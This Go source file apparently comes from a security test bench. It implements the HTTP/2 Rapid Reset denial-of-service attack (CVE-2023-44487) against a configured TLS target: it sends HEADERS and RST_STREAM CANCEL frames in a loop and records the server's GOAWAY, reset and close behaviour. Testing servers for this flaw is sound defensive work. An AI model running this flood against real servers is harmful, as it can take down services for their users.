package main

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// rapidReset opens streams on one HTTP/2 connection and cancels each at
// once (HEADERS with END_STREAM, then RST_STREAM CANCEL: CVE-2023-44487),
// until cfg.streams are sent, the server sends GOAWAY, or 30 s pass.
func rapidReset(cfg *config) ([]*result, error) {
	r := newResult("h2-rapid-reset", cfg)
	if cfg.tlsTarget == "" {
		return nil, errors.New("no -tls-target")
	}
	d := &net.Dialer{Timeout: 5 * time.Second}
	c, err := tls.DialWithDialer(d, "tcp", cfg.tlsTarget, &tls.Config{
		InsecureSkipVerify: true, // the bench's self-signed certificate
		NextProtos:         []string{"h2"},
		ServerName:         "hostile.test",
	})
	if err != nil {
		return nil, fmt.Errorf("dial %s: %w", cfg.tlsTarget, err)
	}
	defer c.Close()
	if p := c.ConnectionState().NegotiatedProtocol; p != "h2" {
		return nil, fmt.Errorf("%s: ALPN chose %q, not h2", cfg.tlsTarget, p)
	}
	deadline := time.Now().Add(30 * time.Second)
	c.SetDeadline(deadline.Add(5 * time.Second))

	bw := bufio.NewWriterSize(c, 64<<10)
	var wmu sync.Mutex // the writing framer and bw
	wf := http2.NewFramer(bw, nil)
	rf := http2.NewFramer(nil, c)
	wmu.Lock()
	bw.WriteString(http2.ClientPreface)
	wf.WriteSettings()
	bw.Flush()
	wmu.Unlock()

	var (
		sent        atomic.Int64
		goaway      atomic.Bool
		goawayAfter int64
		goawayLast  uint32
		goawayCode  http2.ErrCode
		responses   int
		resets      int
		readErr     error
		readDone    = make(chan struct{})
	)
	go func() {
		defer close(readDone)
		for {
			f, err := rf.ReadFrame()
			if err != nil {
				readErr = err
				return
			}
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() {
					wmu.Lock()
					wf.WriteSettingsAck()
					bw.Flush()
					wmu.Unlock()
				}
			case *http2.GoAwayFrame:
				if !goaway.Load() {
					goawayAfter = sent.Load()
					goawayLast = f.LastStreamID
					goawayCode = f.ErrCode
					goaway.Store(true)
				}
			case *http2.HeadersFrame:
				responses++
			case *http2.RSTStreamFrame:
				resets++
			case *http2.PingFrame:
				if !f.IsAck() {
					wmu.Lock()
					wf.WritePing(true, f.Data)
					bw.Flush()
					wmu.Unlock()
				}
			}
		}
	}()

	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	var werr error
	for i := 0; i < cfg.streams && !goaway.Load() && time.Now().Before(deadline); i++ {
		id := uint32(2*i + 1)
		hb.Reset()
		for _, f := range []hpack.HeaderField{
			{Name: ":method", Value: "GET"},
			{Name: ":scheme", Value: "https"},
			{Name: ":authority", Value: "hostile.test"},
			{Name: ":path", Value: "/rapid-reset"},
			{Name: "x-probe", Value: "h2-rapid-reset"},
		} {
			enc.WriteField(f)
		}
		wmu.Lock()
		werr = wf.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndStream: true, EndHeaders: true})
		if werr == nil {
			werr = wf.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		if werr == nil && i%50 == 49 {
			werr = bw.Flush()
		}
		wmu.Unlock()
		if werr != nil {
			break
		}
		sent.Add(1)
	}
	if werr == nil {
		wmu.Lock()
		werr = bw.Flush()
		wmu.Unlock()
	}
	// What the server does with the last streams, and whether it closes.
	select {
	case <-readDone:
	case <-time.After(3 * time.Second):
		c.SetReadDeadline(time.Now())
		<-readDone
	}
	time.Sleep(time.Second)
	r.set("streams_sent", sent.Load())
	if goaway.Load() {
		r.set("goaway", "yes")
		r.set("goaway_after", goawayAfter)
		r.set("goaway_last_stream", goawayLast)
		r.set("goaway_code", goawayCode.String())
	} else {
		r.set("goaway", "no")
	}
	r.set("responses", responses)
	r.set("rst_from_server", resets)
	closed := "no"
	var ne net.Error
	if readErr != nil && !(errors.As(readErr, &ne) && ne.Timeout()) {
		closed = classify(readErr)
		if errors.Is(readErr, io.EOF) {
			closed = "eof"
		}
	}
	r.set("closed", closed)
	if werr != nil {
		r.set("write", classify(werr))
	}
	ps, err := cfg.ctl.probe("h2-rapid-reset")
	if err != nil {
		return nil, err
	}
	r.set("backend_requests", ps["requests"])
	return []*result{r}, nil
}
